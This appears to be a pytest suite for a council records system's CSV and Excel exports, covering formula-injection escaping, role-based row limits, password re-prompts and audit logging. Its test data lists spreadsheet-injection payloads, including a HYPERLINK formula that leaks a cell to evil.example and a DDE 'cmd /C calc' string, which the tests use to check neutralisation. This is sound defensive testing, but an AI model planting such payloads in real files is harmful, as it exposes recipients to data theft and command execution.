"""Tables that leave as files: recorded first, and with no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import subprocess
import zipfile
from pathlib import Path

import lxml.etree
import pytest
from flask import Flask
from werkzeug.test import TestResponse
from xlsxwriter import Workbook

from admin_views.records import downloads
from admin_views.records.exports import XLSX, harmless
from models.ledger.event import Event, EventDetail
from models.organisations.access import EXPORT_ROWS, ROLES, export_rows
from models.organisations.role import Role
from tests.admin_views.conftest import Councils
from tests.admin_views.sweeping import (
    Sweeper,
    case_views,
    links_in,
    make_all_roles,
    messages_in,
    no_audit,
    sweeper,
    words_in,
)
from tests.making import (
    PASSWORD,
    make_authority,
    make_case,
    make_child,
    make_officer,
    make_person,
    make_restriction,
    saved,
    writing,
)

# What a spreadsheet would work out, were it a cell of its own.
LIVE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "|calc",
    "%calc",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x01=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d2+3",
    "\uff20SUM(1+1)",
)
# What an apostrophe already stands before is only its text.
QUOTED = ("'=1+1",)
# Names of people, which stay as they are.
PLAIN = (
    *QUOTED,
    "O’Neil",
    "Smith-Jones",
    "d'Arcy",
    "Élodie",
    "王",
    "",
    "12 Mill Lane",
    "a=1",
    "Ann & Co",
)
# Spreadsheets differ on what parts two cells.
PARTED = ("Smith;=1+1", "Smith\t=1+1", 'Smith";=1+1', "Smith\n=1+1", "Smith,=1+1", 'Smith",=1+1')


@pytest.mark.parametrize("payload", LIVE, ids=ascii)
def test_t13_what_could_be_run_gets_an_apostrophe_before_it(payload: str) -> None:
    assert harmless(payload) == f"'{payload}"


@pytest.mark.parametrize("name", PLAIN, ids=ascii)
def test_names_of_people_stay_as_they_are(name: str) -> None:
    assert harmless(name) == name


def test_nothing_is_an_empty_cell_and_a_number_its_figures() -> None:
    assert (harmless(None), harmless(7), harmless(-7)) == ("", "7", "'-7")


@pytest.fixture
def with_payloads(app: Flask) -> Sweeper:
    """A browser of an officer whose children and people have formulas for names."""
    with writing():
        for payload in (*LIVE, *PARTED):
            make_child(forenames=payload, surname=payload)
            make_person(forenames=payload, surname=payload, title="", email=payload, phone=payload)
    return sweeper(app, make_officer("manager"))


REASON = {"reason": "For the panel on Monday"}


def table_in(page: TestResponse) -> list[list[str]]:
    assert page.mimetype == "text/csv", words_in(page)
    return list(csv.reader(io.StringIO(words_in(page).removeprefix("\ufeff"), newline="")))


def exports() -> list[Event]:
    return list(Event.select().where(Event.verb == "export").order_by(Event.id))


def a_search(browser: Sweeper, words: str) -> str:
    return browser.post("/children/find/", {"search": words}).location.partition("find=")[2]


@pytest.mark.parametrize("address", ["children", "people"])
def test_t13_no_cell_of_an_export_begins_as_a_formula(with_payloads: Sweeper, address: str) -> None:
    mark, titles, *rows = table_in(with_payloads.post(f"/{address}/export/csv/", REASON))

    assert len(rows) == len(LIVE) + len(PARTED)
    assert {len(row) for row in (mark, *rows)} == {len(titles)}
    for cell in (cell for row in rows for cell in row):
        assert cell == harmless(cell) or cell.startswith("'")


def test_t13_a_reason_and_criteria_are_no_formulas_either(with_payloads: Sweeper) -> None:
    sent = {"reason": "=1+1"}
    (mark, *_), *_ = table_in(with_payloads.post("/children/export/csv/", sent))

    assert mark.startswith("Taken by ")
    assert mark.endswith("Reason: =1+1")


def test_what_follows_a_semicolon_is_no_cell_of_its_own(with_payloads: Sweeper) -> None:
    text = words_in(with_payloads.post("/people/export/csv/", REASON)).removeprefix("\ufeff")

    assert "Smith;=1+1" in text
    assert all(line.startswith('"') for line in text.split("\r\n") if line)


@pytest.mark.parametrize(("kind", "media_type"), [("csv", "text/csv"), ("xlsx", XLSX)])
def test_an_export_is_a_file_named_for_its_list_and_hour(
    with_payloads: Sweeper, kind: str, media_type: str
) -> None:
    answer = with_payloads.post(f"/children/export/{kind}/", REASON)

    assert answer.mimetype == media_type
    named = answer.headers["Content-Disposition"]
    assert named == f'attachment; filename="children-2026-11-23-0900.{kind}"'


def test_an_export_is_asked_for_by_a_form_and_never_by_a_link(with_payloads: Sweeper) -> None:
    for kind in ("csv", "xlsx"):
        assert with_payloads.get(f"/children/export/{kind}/").status_code == 405
    assert with_payloads.post("/children/export/pdf/", REASON).status_code == 404
    assert with_payloads.post("/events/export/csv/", REASON).status_code in (403, 404)
    assert with_payloads.get("/schools/export/").status_code == 404
    assert exports() == []


# -- asked first -----------------------------------------------------------------------------


def test_t12_the_page_that_asks_says_how_many_and_what_was_looked_for(app: Flask) -> None:
    for _ in range(3):
        make_child(surname="Nowak", sex="F")
    make_child(surname="Hill")
    browser = sweeper(app, make_officer("manager"))
    wanted = {"search": "nowak", "sex-is": "F", "born_on-from": "2015-01-01"}
    token = browser.post("/children/find/", wanted).location.partition("find=")[2]
    link = f"/children/export/?find={token}"
    assert link in links_in(browser.get(f"/children/?find={token}"))

    page = words_in(browser.get(link))

    assert "<dd>3</dd>" in page
    assert "search: nowak; Sex: Female; Born: from 1 Jan 2015" in page
    looked = Event.select().order_by(Event.id.desc()).get()
    assert (looked.verb, looked.about["count"], looked.about["find"]) == ("listed", 3, token)
    assert exports() == []


@pytest.mark.parametrize("reason", [None, "", "   ", "\n\t", "x" * 501])
def test_t12_without_a_reason_nothing_leaves(with_payloads: Sweeper, reason: str | None) -> None:
    sent = {} if reason is None else {"reason": reason}

    answer = with_payloads.post("/children/export/csv/", sent)

    assert answer.status_code == 422
    assert messages_in(answer)
    assert "1+1" not in words_in(answer)
    assert exports() == []


# A limit low enough to be reached with a few rows.
FEW = {"business_support": 2, "cme_officer": 3, "manager": 4}


@pytest.fixture
def few(monkeypatch: pytest.MonkeyPatch) -> None:
    for role, rows in FEW.items():
        monkeypatch.setitem(EXPORT_ROWS, role, rows)


def test_t12_every_role_has_its_limit() -> None:
    assert EXPORT_ROWS.keys() == dict(ROLES).keys()
    assert EXPORT_ROWS["business_support"] == 200
    assert EXPORT_ROWS["cme_officer"] == EXPORT_ROWS["ehe_officer"] == 1_000
    assert EXPORT_ROWS["manager"] == 5_000
    assert EXPORT_ROWS["returns_officer"] == EXPORT_ROWS["auditor"] == 10_000
    assert export_rows(["business_support", "manager"], "Child") == 5_000
    assert export_rows(["business_support"], "Notice") == 0
    assert export_rows([], "Child") == 0


@pytest.mark.usefixtures("few")
@pytest.mark.parametrize("role", FEW)
def test_t12_over_the_limit_nothing_leaves_and_the_numbers_are_said(app: Flask, role: str) -> None:
    browser = sweeper(app, make_officer(role))
    for _ in range(FEW[role]):
        make_child()
    file = table_in(browser.post("/children/export/csv/", REASON))
    assert len(file) == 2 + FEW[role]
    make_child()

    page = browser.get("/children/export/")
    answer = browser.post("/children/export/csv/", REASON)

    assert answer.status_code == 403
    for shown in (page, answer):
        assert f"{FEW[role] + 1} rows" in words_in(shown)
        assert f"your role may take {FEW[role]} at a time" in words_in(shown)
        assert "narrow the list" in words_in(shown)
        assert "formaction" not in words_in(shown)
    assert len(exports()) == 1


@pytest.mark.usefixtures("few")
def test_t12_a_high_limit_in_one_council_is_none_in_another(app: Flask) -> None:
    theirs = make_authority(code="874", name="Peterborough City Council")
    officer = make_officer("manager")
    saved(Role(officer=officer, authority=theirs, name="business_support"))
    for _ in range(3):
        make_child(authority=theirs)
    browser = sweeper(app, officer)

    assert browser.post("/children/export/csv/", REASON).status_code == 403


def test_t12_rows_that_may_be_seen_but_not_taken_stay_behind(app: Flask) -> None:
    theirs = make_authority(code="874", name="Peterborough City Council")
    officer = make_officer("manager")
    saved(Role(officer=officer, authority=theirs, name="returns_officer"))
    mine, seen = make_person(), make_person(authority=theirs)
    browser = sweeper(app, officer)
    assert seen.reference in words_in(browser.get("/people/"))

    _, _, *rows = table_in(browser.post("/people/export/csv/", REASON))

    assert [row[0] for row in rows] == [mine.reference]


@pytest.fixture
def many(app: Flask, monkeypatch: pytest.MonkeyPatch) -> Sweeper:
    """A browser with more rows than leave without the password."""
    monkeypatch.setattr(downloads, "ASK_PASSWORD_ABOVE", 2)
    for _ in range(3):
        make_child()
    return sweeper(app, make_officer("manager"))


def test_t12_above_so_many_rows_the_password_is_asked_again(many: Sweeper) -> None:
    assert 'type="password"' in words_in(many.get("/children/export/"))
    for wrong in ({}, {"password": ""}, {"password": "not this one at all"}):
        answer = many.post("/children/export/csv/", REASON | wrong)
        assert answer.status_code == 422
        assert PASSWORD not in words_in(answer)
    assert exports() == []

    file = many.post("/children/export/csv/", REASON | {"password": PASSWORD})

    assert len(table_in(file)) == 2 + 3


def test_t12_t16_the_password_is_not_guessed_at_here(many: Sweeper) -> None:
    wrong = REASON | {"password": "not this one at all"}
    answers = [many.post("/children/export/csv/", wrong).status_code for _ in range(30)]

    assert answers[-1] == 429
    assert answers.count(422) <= 10
    assert many.post("/children/export/csv/", REASON | {"password": PASSWORD}).status_code == 429


def test_t12_five_hundred_rows_leave_without_it_and_one_more_does_not() -> None:
    assert downloads.ASK_PASSWORD_ABOVE == 500
    assert not taking_of(500).asks_password
    assert taking_of(501).asks_password


def taking_of(rows: int) -> downloads.Taking:
    return downloads.Taking(
        "Child", "Children", "children", "all", {1: rows}, "/", {}, lambda: None
    )


# -- recorded and marked ---------------------------------------------------------------------


def test_t12_an_export_is_recorded_with_what_was_asked_why_and_every_row(app: Flask) -> None:
    wanted = [make_child(surname="Nowak") for _ in range(3)]
    make_child(surname="Hill")
    browser = sweeper(app, make_officer("manager"))
    token = a_search(browser, "nowak")
    browser.post(f"/children/export/csv/?find={token}", REASON)
    (event,) = exports()

    assert (event.verb, event.table_name, event.row_id) == ("export", "child", None)
    assert event.about["find"] == token
    assert event.about["count"] == 3
    assert sorted(event.about["ids"]) == sorted(child.id for child in wanted)
    assert event.about["children"] == sorted(child.id for child in wanted)
    detail = EventDetail.get(EventDetail.event == event)
    # Beside the event and not in it: a reason may name a child, and is erased in its time.
    assert detail.values == {"reason": [None, "For the panel on Monday"]}


def test_t12_no_file_leaves_unrecorded(app: Flask, councils: Councils) -> None:
    """Every list, both kinds of file: as many events as files, with as many rows."""
    browser = sweeper(app, make_all_roles(councils.ours))
    files = 0
    for view in case_views(app):
        for kind in downloads.KINDS:
            answer = browser.post(f"/{view.address}/export/{kind}/", REASON)
            if answer.status_code != 200:
                assert answer.status_code in (403, 404), view.address
                continue
            files += 1
            event = exports()[-1]
            assert event.table_name == view.model._meta.table_name
            assert event.about["count"] == len(event.about["ids"])
            if kind == "csv":
                assert len(table_in(answer)) == 2 + event.about["count"]
    print(f"{files} files left, {files - len(exports())} unrecorded")  # noqa: T201

    assert files == len(exports()) > 15


def test_t12_the_first_row_says_who_took_what_when_and_why(app: Flask) -> None:
    make_child(surname="Nowak")
    officer = make_officer("manager", name="Priya Nair", email="priya@council.example")
    browser = sweeper(app, officer)
    token = a_search(browser, "nowak")

    mark, titles, *rows = table_in(browser.post(f"/children/export/csv/?find={token}", REASON))

    assert mark[0] == (
        "Taken by Priya Nair (priya@council.example) on 23 Nov 2026, 09:00. List: Children. "
        "Criteria: search: nowak. Rows: 1. Reason: For the panel on Monday"
    )
    assert titles[0] == "Reference"
    assert len(rows) == 1


def test_t04_a_field_kept_from_view_is_kept_from_the_file(app: Flask) -> None:
    case = make_case(referrer="A neighbour")
    reader = sweeper(app, make_officer("returns_officer"))
    for kind in downloads.KINDS:
        assert b"neighbour" not in reader.post(f"/cases/export/{kind}/", REASON).data
    hidden = make_child(surname="Hidden")
    make_restriction(child=hidden)
    for kind in downloads.KINDS:
        answer = reader.post(f"/children/export/{kind}/", REASON)
        assert "Hidden" not in str(cells_of(answer) if kind == "xlsx" else table_in(answer))
    assert case.child_id in exports()[-1].about["ids"]
    assert hidden.id not in exports()[-1].about["ids"]


def test_t12_t34_an_export_that_is_not_recorded_does_not_leave(with_payloads: Sweeper) -> None:
    token = with_payloads.token()
    for kind in ("csv", "xlsx"):
        with no_audit():
            sent = REASON | {"csrf_token": token}
            answer = with_payloads.post(f"/children/export/{kind}/", sent)

        assert answer.status_code == 503
        assert "1+1" not in words_in(answer)
        assert "Content-Disposition" not in answer.headers


# -- for Excel -------------------------------------------------------------------------------


def cells_of(file: TestResponse) -> list[list[str]]:
    """Return the texts of a workbook's only sheet, read without the library that wrote it."""
    with zipfile.ZipFile(io.BytesIO(file.data)) as parts:
        sheet = lxml.etree.fromstring(parts.read("xl/worksheets/sheet1.xml"))
        shared = lxml.etree.fromstring(parts.read("xl/sharedStrings.xml"))
    texts = ["".join(one.itertext()) for one in shared.findall("{*}si")]
    rows = sheet.findall("{*}sheetData/{*}row")
    return [[texts[int(c.findtext("{*}v"))] for c in row if c.get("t") == "s"] for row in rows]


def test_t13_every_cell_for_excel_is_a_text(with_payloads: Sweeper) -> None:
    for address in ("children", "people"):
        file = with_payloads.post(f"/{address}/export/xlsx/", REASON)
        with zipfile.ZipFile(io.BytesIO(file.data)) as parts:
            sheet = lxml.etree.fromstring(parts.read("xl/worksheets/sheet1.xml"))
        cells = sheet.findall("{*}sheetData/{*}row/{*}c")

        assert len(cells) > len(LIVE) + len(PARTED)
        # An empty text is written as an empty cell.
        assert {cell.get("t") for cell in cells if len(cell)} == {"s"}
        assert sheet.findall(".//{*}f") == []


def test_t35_a_name_goes_into_the_csv_as_it_is(app: Flask) -> None:
    odd = ["O’Neil", "d'Arcy", "Élodie 王", "Ann & <Co>", "Null", 'Ng "Lee"', "Smith, Jones", "Ó"]
    with writing():
        for name in odd:
            make_person(forenames="", surname=name, title="", email="", phone="")
    file = sweeper(app, make_officer("manager")).post("/people/export/csv/", REASON)

    assert sorted(row[1] for row in table_in(file)[2:]) == sorted(odd)


def test_t35_a_name_goes_into_the_workbook_as_it_is(app: Flask) -> None:
    odd = ["=1+1", "O’Neil", "d'Arcy", "Élodie 王", "Ann & <Co>", " spaced ", "7", "1e5"]
    with writing():
        for name in odd:
            make_person(forenames="", surname=name, title="", email="", phone="")
    file = sweeper(app, make_officer("manager")).post("/people/export/xlsx/", REASON)

    assert sorted(row[1] for row in cells_of(file)[2:]) == sorted(odd)


# -- opened in LibreOffice -------------------------------------------------------------------


@pytest.mark.office
def test_t13_libreoffice_works_nothing_out(with_payloads: Sweeper, tmp_path: Path) -> None:
    tables = {
        name: with_payloads.post(f"/{name}/export/csv/", REASON).data
        for name in ("children", "people")
    }
    bare = io.StringIO()
    csv.writer(bare).writerows([payload] for payload in (*LIVE, *PARTED))
    tables["bare"] = bare.getvalue().encode()

    # Parted at "," as written, and at ";" and tab as well, as some spreadsheets do unasked.
    for separators in ("44", "44/59/9"):
        options = f"--infilter=Text - txt - csv (StarCalc):{separators}{IMPORT_OPTIONS}"
        found = formulas_in(tables, "csv", tmp_path, options)
        assert (found["children"], found["people"]) == (0, 0)
        # The same texts as they are, to show that it would.
        assert found["bare"] > 0


@pytest.mark.office
def test_t13_libreoffice_works_nothing_out_in_a_workbook(
    with_payloads: Sweeper, tmp_path: Path
) -> None:
    tables = {
        name: with_payloads.post(f"/{name}/export/xlsx/", REASON).data
        for name in ("children", "people")
    }
    content = io.BytesIO()
    with Workbook(content) as book:
        book.add_worksheet().write_formula(0, 0, "=1+1")
    tables["bare"] = content.getvalue()

    assert formulas_in(tables, "xlsx", tmp_path) == {"children": 0, "people": 0, "bare": 1}


IMPORT_OPTIONS = ",34,76,1,,0,false,true,false,false,false,0,true"


def formulas_in(tables: dict[str, bytes], kind: str, folder: Path, *options: str) -> dict[str, int]:
    """Count the cells of each table that LibreOffice takes for formulas."""
    out = folder / "converted"
    for name, table in tables.items():
        (folder / f"{name}.{kind}").write_bytes(table)
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={(folder / 'profile').as_uri()}",
            "--headless",
            *options,
            *("--convert-to", "xlsx", "--outdir", out),
            *(folder / f"{name}.{kind}" for name in tables),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    counts = {}
    for name in tables:
        with zipfile.ZipFile(out / f"{name}.xlsx") as parts:
            counts[name] = parts.read("xl/worksheets/sheet1.xml").count(b"<f")
    return counts
